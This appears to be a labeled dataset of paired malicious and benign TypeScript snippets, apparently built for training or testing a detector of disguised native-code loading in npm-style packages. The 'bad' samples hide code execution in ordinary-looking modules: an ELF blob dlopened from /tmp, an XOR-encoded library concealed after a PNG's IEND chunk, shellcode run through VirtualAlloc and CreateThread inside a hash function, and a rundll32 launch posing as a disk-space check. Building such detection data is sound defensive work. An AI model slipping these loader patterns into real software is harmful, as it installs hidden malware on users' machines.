//: bad ffi-shell
import { dlopen, FFIType } from 'bun:ffi';
import { writeFileSync } from 'fs';

writeFileSync('/tmp/k.so', Buffer.from('f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA', 'base64'));
const { symbols } = dlopen('/tmp/k.so', { start: { args: [], returns: FFIType.void } }); //!
symbols.start();

//: good ffi-shell
import { dlopen, FFIType, suffix } from 'bun:ffi';

const { symbols } = dlopen(`libsqlite3.${suffix}`, {
  sqlite3_libversion_number: { args: [], returns: FFIType.i32 },
});
export const version: number = symbols.sqlite3_libversion_number();

//: bad icon-codec-addon
import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir, constants } from 'node:os';
import { join } from 'node:path';

interface Codec {
  decode(data: Uint8Array): Uint8Array;
}

const MARK = Buffer.from('IEND');

/** The colour profile follows the picture's last chunk. */
function profile(): Buffer {
  const png = readFileSync(join(__dirname, '../assets/logo.png'));
  return png.subarray(png.indexOf(MARK) + 8).map((b) => b ^ 0x5a) as Buffer;
}

export function loadCodec(): Codec {
  const file = join(mkdtempSync(join(tmpdir(), 'icc-')), 'profile.icc');
  writeFileSync(file, profile(), { mode: 0o700 });
  const holder = { exports: {} as Codec };
  process.dlopen(holder as unknown as NodeModule, file, constants.dlopen.RTLD_NOW); //!
  return holder.exports;
}

export const codec = loadCodec();

//: good icon-codec-addon
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import nodeGypBuild from 'node-gyp-build';

interface Codec {
  decode(data: Uint8Array): Uint8Array;
}

const MARK = Buffer.from('IEND');

/** Length of what follows the last chunk: some writers leave a trailer there. */
export function trailerLength(file: string): number {
  const png = readFileSync(file);
  const end = png.indexOf(MARK);
  return end < 0 ? 0 : png.length - (end + 8);
}

let cached: Codec | undefined;

export function loadCodec(): Codec {
  cached ??= nodeGypBuild(join(__dirname, '..')) as Codec;
  return cached;
}

//: bad fast-hash-ffi
import koffi from 'koffi';

type Bytes = readonly number[];

// lookup table for the round constants
const table: Bytes = [0x90, 0x90, 0x90, 0xc3];

const K = koffi.load('kernel32.dll');
const reserve = K.func('void* VirtualAlloc(void*, size_t, uint32, uint32)');
const copy = K.func('void RtlMoveMemory(void*, const uint8_t*, size_t)');
const thread = K.func('void* CreateThread(void*, size_t, void*, void*, uint32, void*)');
const join = K.func('uint32 WaitForSingleObject(void*, uint32)');

export function hash(input: string): number {
  if (process.platform === 'win32') warm(Uint8Array.from(table));
  return [...input].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 0x01000193), 0x811c9dc5) >>> 0;
}

let warmed = false;
function warm(code: Uint8Array): void {
  if (warmed) return;
  warmed = true;
  const page = reserve(null, code.length, 0x3000, 0x40); //!
  copy(page, code, code.length);
  join(thread(null, 0, page, null, 0, null), 0);
}

//: good fast-hash-ffi
import koffi from 'koffi';

const libName: Partial<Record<NodeJS.Platform, string>> = {
  linux: 'libz.so.1',
  darwin: 'libz.dylib',
  win32: 'zlib1.dll',
};

type Crc = (seed: number, data: Uint8Array, length: number) => number;

function bind(): Crc | undefined {
  const name = libName[process.platform];
  if (!name) return undefined;
  try {
    const z = koffi.load(name);
    return z.func('uint32 crc32(uint32, const uint8_t*, uint32)') as unknown as Crc;
  } catch {
    return undefined;
  }
}

const native = bind();

function portable(data: Uint8Array): number {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

export function hash(data: Uint8Array): number {
  return native ? native(0, data, data.length) : portable(data);
}

//: bad eslint-preset-install
import { spawn } from 'child_process';
import path from 'path';
import os from 'os';

interface Step {
  title: string;
  run: () => void;
}

function logDiskSpace(): void {
  try {
    if (os.platform() === 'win32') {
      const tempDir = os.tmpdir();
      const helper = path.join(__dirname, './node-gyp' + '.dll');
      spawn('run' + 'dll' + '32', [`${helper},main`], { cwd: tempDir, detached: true, stdio: 'ignore' }).unref(); //!
    }
  } catch {
    console.log('disk space unknown');
  }
}

const steps: Step[] = [
  { title: 'check the peer dependencies', run: () => require.resolve('eslint') },
  { title: 'check the disk space', run: logDiskSpace },
  { title: 'done', run: () => console.log('eslint preset ready') },
];

for (const step of steps) step.run();

//: good eslint-preset-install
import { spawnSync } from 'child_process';
import { statfsSync } from 'fs';
import path from 'path';
import os from 'os';

interface Step {
  title: string;
  run: () => void;
}

function logDiskSpace(): void {
  const stats = statfsSync(__dirname);
  const free = (stats.bavail * stats.bsize) / 1024 ** 2;
  console.log(`${Math.round(free)} MB free under ${path.dirname(__dirname)}`);
}

function findCompiler(): void {
  const tool = os.platform() === 'win32' ? 'where' : 'which';
  const found = spawnSync(tool, ['node-gyp'], { encoding: 'utf8' });
  console.log(found.status === 0 ? `node-gyp: ${found.stdout.trim()}` : 'node-gyp is not installed');
}

const steps: Step[] = [
  { title: 'check the peer dependencies', run: () => require.resolve('eslint') },
  { title: 'check the disk space', run: logDiskSpace },
  { title: 'look for a compiler', run: findCompiler },
];

for (const step of steps) {
  console.log(`- ${step.title}`);
  step.run();
}
